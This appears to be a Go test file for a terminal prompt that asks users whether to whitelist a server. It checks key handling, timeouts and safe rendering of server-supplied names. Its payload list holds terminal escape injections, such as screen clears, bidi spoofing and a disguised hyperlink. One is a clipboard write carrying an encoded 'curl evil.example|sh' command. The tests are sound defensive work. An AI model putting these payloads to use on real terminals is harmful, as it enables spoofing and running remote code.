package tui

import (
	"errors"
	"regexp"
	"strings"
	"testing"
	"time"

	tea "charm.land/bubbletea/v2"

	"github.com/trustlaunch/trustlaunch/internal/safetext"
	"github.com/trustlaunch/trustlaunch/whitelist"
)

var t0 = time.Date(2025, 1, 2, 3, 4, 5, 0, time.UTC)

func testDetails() details {
	return details{
		host:      "portal.example.com",
		domain:    "example.com",
		port:      443,
		entry:     "portal.example.com",
		launchURL: "https://portal.example.com/launch/session/42?ticket=secret",
		userList:  "/home/u/.config/trustlaunch/whitelist.txt",
	}
}

// key builds the key press that Bubble Tea decodes for name.
func key(t *testing.T, name string) tea.KeyPressMsg {
	t.Helper()
	var k tea.KeyPressMsg
	switch name {
	case "enter":
		k = tea.KeyPressMsg{Code: tea.KeyEnter}
	case "esc":
		k = tea.KeyPressMsg{Code: tea.KeyEscape}
	case "tab":
		k = tea.KeyPressMsg{Code: tea.KeyTab}
	case "shift+tab":
		k = tea.KeyPressMsg{Code: tea.KeyTab, Mod: tea.ModShift}
	case "left":
		k = tea.KeyPressMsg{Code: tea.KeyLeft}
	case "right":
		k = tea.KeyPressMsg{Code: tea.KeyRight}
	case "ctrl+c":
		k = tea.KeyPressMsg{Code: 'c', Mod: tea.ModCtrl}
	default:
		r := []rune(name)
		if len(r) != 1 {
			t.Fatalf("no key %q", name)
		}
		k = tea.KeyPressMsg{Code: r[0], Text: name}
	}
	if k.String() != name {
		t.Fatalf("key %q decodes as %q", name, k.String())
	}
	return k
}

// send feeds msgs to m and returns the final model and the last command.
func send(t *testing.T, m model, msgs ...tea.Msg) (model, tea.Cmd) {
	t.Helper()
	var cmd tea.Cmd
	for _, msg := range msgs {
		var tm tea.Model
		tm, cmd = m.Update(msg)
		m = tm.(model)
	}
	return m, cmd
}

func armedModel() model {
	return newModel(testDetails(), plainStyles(), t0, DefaultTimeout, -1)
}

func isQuit(cmd tea.Cmd) bool {
	if cmd == nil {
		return false
	}
	_, ok := cmd().(tea.QuitMsg)
	return ok
}

func TestModelKeys(t *testing.T) {
	tests := []struct {
		keys    string
		want    whitelist.Answer
		wantErr error
	}{
		{"a enter", whitelist.AnswerAlways, nil},
		{"A enter", whitelist.AnswerAlways, nil},
		{"a a enter", whitelist.AnswerAlways, nil},
		{"a y", whitelist.AnswerYes, nil},
		{"a n", whitelist.AnswerNo, nil},
		{"a r enter", whitelist.AnswerNo, nil}, // any other key goes back to No
		{"c l e a r enter", whitelist.AnswerNo, nil},
		{"a right enter", whitelist.AnswerYes, nil}, // a move from Always, then Enter
		{"y", whitelist.AnswerYes, nil},
		{"Y", whitelist.AnswerYes, nil},
		{"n", whitelist.AnswerNo, nil},
		{"N", whitelist.AnswerNo, nil},
		{"q", whitelist.AnswerNo, nil},
		{"esc", whitelist.AnswerNo, nil},
		{"ctrl+c", whitelist.AnswerNo, ErrInterrupted},
		{"enter", whitelist.AnswerNo, nil}, // focus starts on No
		{"left enter", whitelist.AnswerYes, nil},
		{"left left enter", whitelist.AnswerAlways, nil},
		{"left left left enter", whitelist.AnswerAlways, nil}, // stops at Always
		{"right enter", whitelist.AnswerNo, nil},              // stops at No: never wraps to Always
		{"right right enter", whitelist.AnswerNo, nil},
		{"tab enter", whitelist.AnswerNo, nil},
		{"tab tab enter", whitelist.AnswerNo, nil},
		{"left left tab enter", whitelist.AnswerYes, nil},
		{"shift+tab enter", whitelist.AnswerYes, nil},
		{"right left enter", whitelist.AnswerYes, nil},
		{"x z 1 enter", whitelist.AnswerNo, nil},       // unknown keys do nothing
		{"left left x enter", whitelist.AnswerNo, nil}, // on Always by moves, too, another key goes back
		{"left left n", whitelist.AnswerNo, nil},       // n answers No whatever the focus
		{"left left esc", whitelist.AnswerNo, nil},
		{"left ctrl+c", whitelist.AnswerNo, ErrInterrupted},
	}
	for _, tt := range tests {
		t.Run(tt.keys, func(t *testing.T) {
			var msgs []tea.Msg
			for k := range strings.FieldsSeq(tt.keys) {
				msgs = append(msgs, key(t, k))
			}
			m, cmd := send(t, armedModel(), msgs...)
			if !m.done || !isQuit(cmd) {
				t.Fatalf("not finished after %q (done=%v)", tt.keys, m.done)
			}
			if m.answer != tt.want {
				t.Errorf("answer = %v, want %v", m.answer, tt.want)
			}
			if !errors.Is(m.err, tt.wantErr) || (tt.wantErr == nil && m.err != nil) {
				t.Errorf("err = %v, want %v", m.err, tt.wantErr)
			}
		})
	}
}

func TestModelFocusMarker(t *testing.T) {
	m := armedModel()
	for _, step := range []struct{ key, marked string }{
		{"", "> [No]"},
		{"right", "> [No]"}, // stops at the end
		{"left", "> [Yes]"},
		{"left", "> [Always]"},
		{"left", "> [Always]"}, // stops at the end
		{"tab", "> [Yes]"},
		{"tab", "> [No]"},
		{"tab", "> [No]"},
		{"shift+tab", "> [Yes]"},
	} {
		if step.key != "" {
			m, _ = send(t, m, key(t, step.key))
		}
		v := m.render()
		if !strings.Contains(v, step.marked) || strings.Count(v, "> [") != 1 {
			t.Fatalf("after %q: want exactly one marker, %q:\n%s", step.key, step.marked, v)
		}
	}
}

func TestModelIgnoresKeysUntilArmed(t *testing.T) {
	m := newModel(testDetails(), plainStyles(), t0, DefaultTimeout, time.Second)
	if cmd := m.Init(); cmd == nil {
		t.Fatal("Init schedules nothing")
	}
	for _, k := range []string{"a", "y", "enter", "tab", "left", "right"} {
		m, _ = send(t, m, key(t, k))
		if m.done || m.focus != choiceNo {
			t.Fatalf("%q acted before the prompt was armed", k)
		}
	}
	if v := m.render(); strings.Contains(v, "Enter choose") || !strings.Contains(v, "n/q/Esc No") {
		t.Errorf("unarmed help line wrong:\n%s", v)
	}
	for _, k := range []string{"n", "q", "esc", "ctrl+c"} {
		got, _ := send(t, m, key(t, k))
		if !got.done || got.answer != whitelist.AnswerNo {
			t.Errorf("%q does not answer No before the prompt is armed", k)
		}
	}
	m, _ = send(t, m, armMsg{})
	if !strings.Contains(m.render(), "Enter choose") {
		t.Errorf("armed help line missing:\n%s", m.render())
	}
	m, _ = send(t, m, key(t, "a"))
	m, _ = send(t, m, alwaysMsg(m.alwaysSeq), key(t, "enter"))
	if !m.done || m.answer != whitelist.AnswerAlways {
		t.Errorf("a and Enter after arming: done=%v answer=%v", m.done, m.answer)
	}
}

// TestModelAlwaysTakesTwoKeys: a answers nothing by itself; it puts the
// focus on Always and says what Enter would do, and a key that is not an
// answer goes back to No. Typing "clear" into the prompt once answered
// Always at its a.
func TestModelAlwaysTakesTwoKeys(t *testing.T) {
	m, cmd := send(t, armedModel(), key(t, "c"), key(t, "l"), key(t, "e"), key(t, "a"))
	if m.done || cmd != nil || m.focus != choiceAlways {
		t.Fatalf("after \"clea\": done=%v focus=%v", m.done, m.focus)
	}
	if v := m.render(); !strings.Contains(v, "> [Always]") || !strings.Contains(v, helpAlways) {
		t.Errorf("a does not show what Enter would do:\n%s", v)
	}
	m, _ = send(t, m, key(t, "r"))
	if m.done || m.focus != choiceNo || strings.Contains(m.render(), helpAlways) {
		t.Fatalf("after \"clear\": done=%v focus=%v\n%s", m.done, m.focus, m.render())
	}
	m, _ = send(t, m, key(t, "enter"))
	if !m.done || m.answer != whitelist.AnswerNo {
		t.Errorf("\"clear\" and Enter answered %v, want No", m.answer)
	}
}

// TestModelAlwaysWaitsForEnter: Enter answers Always only once the focus
// has rested on it for the arming delay, which the screen shows by its help
// line. "ls -la" and Enter, typed into the prompt's window at typing speed,
// once answered Always at the a; now that Enter puts the focus back on No,
// and a second Enter answers No. A stale alwaysMsg, from an earlier visit
// to Always, readies nothing.
func TestModelAlwaysWaitsForEnter(t *testing.T) {
	m := newModel(testDetails(), plainStyles(), t0, DefaultTimeout, time.Second)
	m, _ = send(t, m, armMsg{})
	var cmd tea.Cmd
	for _, k := range []string{"l", "s", "-", "l", "a"} {
		m, cmd = send(t, m, key(t, k))
	}
	if m.done || m.focus != choiceAlways || cmd == nil {
		t.Fatalf("after \"ls -la\": done=%v focus=%v, cmd %v; want the focus on Always and its wait scheduled", m.done, m.focus, cmd)
	}
	if v := flat(m.render()); !strings.Contains(v, flat(helpAlwaysSoon)) || strings.Contains(v, flat(helpAlways)) {
		t.Errorf("before the wait is over, the help line must not offer Enter:\n%s", m.render())
	}
	m, _ = send(t, m, key(t, "enter"))
	if m.done || m.focus != choiceNo {
		t.Fatalf("\"ls -la\" and Enter: done=%v answer=%v focus=%v; want nothing answered and the focus back on No", m.done, m.answer, m.focus)
	}
	m, _ = send(t, m, key(t, "enter"))
	if !m.done || m.answer != whitelist.AnswerNo {
		t.Fatalf("a second Enter answered %v, want No", m.answer)
	}

	m = newModel(testDetails(), plainStyles(), t0, DefaultTimeout, time.Second)
	m, _ = send(t, m, armMsg{}, key(t, "a"), key(t, "x"), key(t, "a"))
	stale := alwaysMsg(m.alwaysSeq - 1) // the first a's
	m, _ = send(t, m, stale, key(t, "enter"))
	if m.done || m.focus != choiceNo {
		t.Fatalf("an Enter after a stale alwaysMsg: done=%v answer=%v focus=%v", m.done, m.answer, m.focus)
	}
	m, _ = send(t, m, key(t, "left"), key(t, "left"))
	m, _ = send(t, m, alwaysMsg(m.alwaysSeq))
	if v := flat(m.render()); !strings.Contains(v, flat(helpAlways)) {
		t.Errorf("once the wait is over, the help line must say what Enter does:\n%s", m.render())
	}
	m, cmd = send(t, m, key(t, "enter"))
	if !m.done || !isQuit(cmd) || m.answer != whitelist.AnswerAlways {
		t.Fatalf("Enter after the wait: done=%v answer=%v; want Always", m.done, m.answer)
	}
}

func TestModelTimeout(t *testing.T) {
	m := armedModel()
	if !strings.Contains(m.render(), "No in 60 s") {
		t.Fatalf("no countdown:\n%s", m.render())
	}
	m, cmd := send(t, m, tickMsg(t0.Add(1500*time.Millisecond)))
	if m.done || cmd == nil {
		t.Fatal("finished or stopped ticking before the timeout")
	}
	if !strings.Contains(m.render(), "No in 59 s") {
		t.Errorf("countdown did not move:\n%s", m.render())
	}
	m, cmd = send(t, m, tickMsg(t0.Add(DefaultTimeout)))
	if !m.done || !isQuit(cmd) || m.answer != whitelist.AnswerNo || !errors.Is(m.err, ErrTimeout) {
		t.Fatalf("at the deadline: done=%v answer=%v err=%v", m.done, m.answer, m.err)
	}
	if v := m.render(); !strings.Contains(v, "Answer: No (no answer before the timeout") {
		t.Errorf("final view does not say why:\n%s", v)
	}
	// Nothing moves it after the answer.
	m, cmd = send(t, m, key(t, "a"))
	if m.answer != whitelist.AnswerNo || cmd != nil {
		t.Error("a key changed a finished prompt")
	}
}

func TestModelStop(t *testing.T) {
	cause := errors.New("terminal closed (SIGHUP)")
	m, cmd := send(t, armedModel(), key(t, "left"), stopMsg{cause})
	if !m.done || !isQuit(cmd) || m.answer != whitelist.AnswerNo || m.err != cause {
		t.Fatalf("after stopMsg: done=%v answer=%v err=%v", m.done, m.answer, m.err)
	}
	if !strings.Contains(m.render(), "Answer: No (terminal closed (SIGHUP))") {
		t.Errorf("final view:\n%s", m.render())
	}
}

func TestHelpShowsEveryAction(t *testing.T) {
	k := defaultKeys()
	shown := map[string][]string{
		"a Always": k.Always, "y Yes": k.Yes, "n/q/Esc No": k.No,
		"Tab/Left/Right move": append(append([]string(nil), k.Prev...), k.Next...), "Enter choose": k.Choose,
	}
	for label, keys := range shown {
		if !strings.Contains(helpLine, label) {
			t.Errorf("help line lacks %q", label)
		}
		if len(keys) == 0 {
			t.Errorf("%q has no keys", label)
		}
	}
}

// flat joins the view's lines so that wrapped text can be searched.
func flat(v string) string {
	return strings.Join(strings.Fields(ansiRE.ReplaceAllString(v, "")), " ")
}

var ansiRE = regexp.MustCompile("\x1b\\[[0-9;]*m")

func TestViewContent(t *testing.T) {
	v := armedModel().render()
	f := flat(v)
	for _, want := range []string{
		whitelist.Question + "?",
		"Server portal.example.com",
		"Domain example.com",
		"Path /launch/session/42?…",
		"Always adds portal.example.com to your whitelist (/home/u/.config/trustlaunch/whitelist.txt)",
		"[Always]", "[Yes]", "> [No]",
	} {
		if !strings.Contains(f, want) {
			t.Errorf("view lacks %q:\n%s", want, v)
		}
	}
	for _, unwanted := range []string{"Port", "Unicode", "Warning", "ticket", "secret"} {
		if strings.Contains(v, unwanted) {
			t.Errorf("view shows %q:\n%s", unwanted, v)
		}
	}

	d := testDetails()
	d.host, d.unicode, d.domain, d.port, d.entry = "xn--bcher-kva.example", "bücher.example", "xn--bcher-kva.example", 8443, "xn--bcher-kva.example:8443"
	v = newModel(d, plainStyles(), t0, DefaultTimeout, -1).render()
	f = flat(v)
	for _, want := range []string{
		"Server xn--bcher-kva.example", "Unicode bücher.example",
		"! Warning: this name uses non-ASCII characters; check it letter by letter.",
		"Port 8443", "Always adds xn--bcher-kva.example:8443 to your whitelist",
	} {
		if !strings.Contains(f, want) {
			t.Errorf("IDN view lacks %q:\n%s", want, v)
		}
	}

	d = testDetails()
	d.host, d.domain, d.isIP, d.entry = "192.0.2.7", "", true, "192.0.2.7"
	if f := flat(newModel(d, plainStyles(), t0, DefaultTimeout, -1).render()); !strings.Contains(f, "Domain none (an IP address)") {
		t.Errorf("IP view: %s", f)
	}
}

// Payloads a hostile server could put in a host, a Unicode form or a URL.
var payloads = []struct{ name, s string }{
	{"csi clear screen", "evil.example\x1b[2J\x1b[Hportal.bank.example"},
	{"cursor moves", "a\x1b[1A\x1b[2K\x1b[10Cb"},
	{"osc 8 hyperlink", "\x1b]8;;https://evil.example/\x1b\\bank.example\x1b]8;;\x1b\\"},
	{"osc 52 clipboard", "x\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07y"},
	{"title change", "\x1b]0;trusted\x07host"},
	{"8-bit csi", "a\u009b2Jb"},
	{"bidi rlo", "good\u202emoc.elpmaxe.live"},
	{"cr overwrite", "evil.example\rbank.example"},
	{"newline", "evil.example\nServer    bank.example"},
	{"backspaces", "bank.example\b\b\b\b\b\b\b\bevil"},
	{"nul", "a\x00b"},
	{"invalid utf-8", "a\xff\xfeb"},
	{"4 KiB host", strings.Repeat("a\x1b", 2048)},
	{"4 KiB plain host", strings.Repeat("abcdefgh.", 455)},
	{"wide characters", strings.Repeat("例え", 60)},
}

func hostileDetails(s string) details {
	return details{host: s, unicode: s, domain: s, port: 8443, entry: s, launchURL: "https://" + s + "/p/" + s + "?q=" + s, userList: "/home/" + s + "/whitelist.txt"}
}

func TestViewInjection(t *testing.T) {
	for _, p := range payloads {
		t.Run(p.name, func(t *testing.T) {
			for _, width := range []int{maxWidth, 40} {
				m := newModel(hostileDetails(p.s), plainStyles(), t0, DefaultTimeout, -1)
				m, _ = send(t, m, tea.WindowSizeMsg{Width: width, Height: 24})
				v := m.render()
				assertInertView(t, v, width)
				// The host is never cut: its sanitized form is all there.
				if want := strings.ReplaceAll(safetext.Sanitize(p.s), " ", ""); !strings.Contains(strings.Join(strings.Fields(v), ""), want) {
					t.Errorf("width %d: host cut; want %q in\n%s", width, want, v)
				}
				if !strings.Contains(flat(v), whitelist.Question+"?") {
					t.Errorf("width %d: question missing", width)
				}

				// Styled, the only escapes are our own SGR sequences.
				for _, st := range []styles{colorStyles(), monoStyles()} {
					m.st = st
					sv := m.render()
					if rest := ansiRE.ReplaceAllString(sv, ""); rest != v {
						t.Fatalf("styled view differs from the plain one beyond SGR:\n%q\n%q", rest, v)
					}
				}
			}
		})
	}
}

// assertInertView fails if v holds anything but printable text and newlines,
// or a line wider than width.
func assertInertView(t *testing.T, v string, width int) {
	t.Helper()
	for i, line := range strings.Split(v, "\n") {
		if w := cellWidth(line); w > width {
			t.Errorf("line %d is %d columns wide (max %d): %q", i+1, w, width, line)
		}
		if safetext.Sanitize(line) != strings.ReplaceAll(line, `\`, `\\`) {
			t.Fatalf("line %d holds characters a terminal acts on: %q", i+1, line)
		}
	}
}

func TestViewNoColor(t *testing.T) {
	m := newModel(hostileDetails("xn--bcher-kva.example"), monoStyles(), t0, DefaultTimeout, -1)
	v := m.render()
	for _, seq := range ansiRE.FindAllString(v, -1) {
		for p := range strings.SplitSeq(strings.TrimSuffix(strings.TrimPrefix(seq, "\x1b["), "m"), ";") {
			switch p {
			case "", "0", "1", "22": // reset, bold, normal intensity
			default:
				t.Errorf("NO_COLOR view uses SGR %s in %q", p, seq)
			}
		}
	}
	if !strings.Contains(flat(v), "> [No]") {
		t.Error("focus not marked in text")
	}
	// The colour view does use colour, so the test above can fail.
	cv := newModel(hostileDetails("xn--bcher-kva.example"), colorStyles(), t0, DefaultTimeout, -1).render()
	if !strings.Contains(cv, "\x1b[33") && !strings.Contains(cv, ";33") {
		t.Errorf("the colour view uses no colour, so this test proves nothing: %q", cv)
	}
}

func TestViewFits80x24(t *testing.T) {
	long := strings.Repeat("a", 63) + "." + strings.Repeat("b", 63) + "." + strings.Repeat("c", 63) + "." + strings.Repeat("d", 49) + ".example.com"
	if len(long) != 253 {
		t.Fatalf("long host is %d bytes", len(long))
	}
	for _, tc := range []struct {
		name string
		d    details
	}{
		{"typical", testDetails()},
		{"idn on a port", details{host: "xn--portal-mta.xn--bcher-kva.example", unicode: "portål.bücher.example", domain: "xn--bcher-kva.example", port: 8443, entry: "xn--portal-mta.xn--bcher-kva.example:8443", launchURL: "https://xn--portal-mta.xn--bcher-kva.example:8443/" + strings.Repeat("seg/", 50), userList: "/home/someone/.config/trustlaunch/whitelist.txt"}},
		{"253-byte host", details{host: long, domain: "example.com", port: 65535, entry: long + ":65535", launchURL: "https://x/", userList: "/home/someone/.config/trustlaunch/whitelist.txt"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			m := newModel(tc.d, colorStyles(), t0, DefaultTimeout, -1)
			base := len(strings.Split(m.render(), "\n"))
			for _, step := range []tea.Msg{nil, key(t, "a"), key(t, "right")} {
				if step != nil {
					m, _ = send(t, m, step)
				}
				v := m.render()
				lines := strings.Split(v, "\n")
				if len(lines) > maxHeight {
					t.Errorf("%d lines, more than %d:\n%s", len(lines), maxHeight, v)
				}
				// The help line that says what Enter does on Always takes
				// no more rows than the one it replaces: a screen that
				// grows pushes what is above the prompt (the demo's first
				// lines) off an 80x24 terminal.
				if len(lines) != base {
					t.Errorf("after %v the prompt is %d lines, not %d:\n%s", step, len(lines), base, v)
				}
				for i, l := range lines {
					if w := cellWidth(l); w > maxWidth {
						t.Errorf("line %d is %d columns", i+1, w)
					}
				}
			}
		})
	}
}

func TestWrapKeepsEscapesWhole(t *testing.T) {
	s := strings.Repeat("ab\x1bcd\u202e", 40)
	for width := 12; width <= 30; width++ {
		lines := wrap(width, "", "", network(s, plainStyles().host))
		if got, want := strings.Join(lines, ""), safetext.Sanitize(s); got != want {
			t.Fatalf("width %d: lost text:\n%q\n%q", width, got, want)
		}
		for _, l := range lines {
			if cellWidth(l) > width {
				t.Errorf("width %d: line %q too wide", width, l)
			}
			if strings.HasSuffix(l, `\`) || strings.HasSuffix(l, `\x`) || strings.HasSuffix(l, `\x1`) || strings.HasSuffix(l, `\u20`) {
				t.Errorf("width %d: escape split at %q", width, l)
			}
		}
	}
}

func TestWrapBreaksAtDots(t *testing.T) {
	lines := wrap(20, "", "", network("portal.internal.example.com", plainStyles().host))
	want := []string{"portal.internal.", "example.com"}
	if strings.Join(lines, "|") != strings.Join(want, "|") {
		t.Errorf("wrap = %q, want %q", lines, want)
	}
}

func TestLaunchPath(t *testing.T) {
	for _, tt := range []struct{ in, want string }{
		{"https://h/a/b", "/a/b"},
		{"https://h/a/b?ticket=1", "/a/b?…"},
		{"https://h/a#frag", "/a"},
		{"https://h", "/"},
		{"https://h?x", "/"},
		{"https://h:8443/%1b[2J", "/%1b[2J"},
		{"https://h/a\x1b[2J", "/a\x1b[2J"}, // still raw here: the layout sanitizes
	} {
		if got := launchPath(tt.in); got != tt.want {
			t.Errorf("launchPath(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

func TestDetailsFor(t *testing.T) {
	o, err := whitelist.ParseOrigin("https://Portal.Bücher.example:8443/x")
	if err != nil {
		t.Fatal(err)
	}
	d := detailsFor(whitelist.PromptRequest{Origin: o, LaunchURL: "https://Portal.Bücher.example:8443/x", UserListPath: "/u/w.txt"})
	if d.host != "portal.xn--bcher-kva.example" || d.unicode != "portal.bücher.example" || d.port != 8443 ||
		d.entry != "portal.xn--bcher-kva.example:8443" || d.domain != "xn--bcher-kva.example" || d.userList != "/u/w.txt" {
		t.Errorf("detailsFor = %+v", d)
	}
}
